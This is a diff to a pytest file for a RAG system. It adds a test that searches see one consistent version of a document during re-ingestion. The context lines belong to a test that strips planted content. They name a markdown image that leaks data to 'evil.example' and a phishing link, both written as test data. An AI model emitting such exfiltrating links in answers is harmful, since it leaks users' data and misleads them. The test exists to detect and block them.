@@ -150,3 +150,45 @@ def test_planted_links_and_images_never_reach_the_user(tmp_path: Path, stub: Ope
     for warnings in (asked["warnings"], completion["warnings"], chunks[-1]["warnings"]):
         assert "image removed: ![x](http://evil.example/leak?q=grace)" in warnings
         assert "link to [portal](http://evil.example/phish) removed: not in a cited source" in warnings
+
+
+@pytest.mark.slow
+def test_answers_see_one_version_of_a_file_while_it_is_re_ingested(tmp_path: Path, fake_settings: Settings) -> None:
+    """Re-ingest stores the new chunks, replaces the manifest, then deletes the old chunks: in between, Chroma
+    holds both versions. Reproduce both windows with a real re-ingest and check every search keeps one."""
+    from rag.index import Index
+    from rag.ingest import ingest_paths
+
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    policy = docs / "policy.txt"
+    old_text = "\n\n".join(f"Clause {n}. The grace period is sixty days under rule {n}." for n in range(12))
+    policy.write_text(old_text)
+    index = Index(fake_settings)
+    ingest_paths([docs], index)
+    searcher = index.searcher()  # one Searcher for the whole test, as a server keeps it
+    old_manifest = index.layout.manifest.read_bytes()
+    old_ids = set(searcher.manifest.chunk_ids())
+    old_chunks = searcher.store.get_chunks(sorted(old_ids))
+
+    policy.write_text(old_text.replace("sixty days", "ninety days"))
+    ingest_paths([docs], index)
+    new_ids = set(index.manifest().chunk_ids())  # type: ignore[union-attr]
+    assert new_ids and not new_ids & old_ids
+    # The window after the manifest was replaced and before the old chunks were deleted: put them back.
+    vectors, _ = index.embedder.embed_passages([chunk.text for chunk in old_chunks])
+    searcher.store.upsert(old_chunks, vectors)
+    searcher.refresh()  # the lexical side sees the store's chunks too
+    question = "What is the grace period?"
+    vector = index.embedder.embed_queries([question])[0]
+    assert {hit.chunk.id for hit in searcher.store.query(vector, 50)} & old_ids  # Chroma does hold both versions
+    for mode in ("dense", "lexical", "hybrid"):
+        hits = searcher.search(question, 10, mode)  # type: ignore[arg-type]
+        assert hits and {hit.chunk.id for hit in hits} <= new_ids, mode
+        assert all("ninety" in hit.chunk.text for hit in hits)
+    # The window before the manifest is replaced: the manifest still names the old version, both are stored.
+    (tmp_path / "m.json").write_bytes(old_manifest)
+    (tmp_path / "m.json").replace(index.layout.manifest)
+    for mode in ("dense", "lexical", "hybrid"):
+        hits = searcher.search(question, 10, mode)  # type: ignore[arg-type]
+        assert hits and {hit.chunk.id for hit in hits} <= old_ids, mode
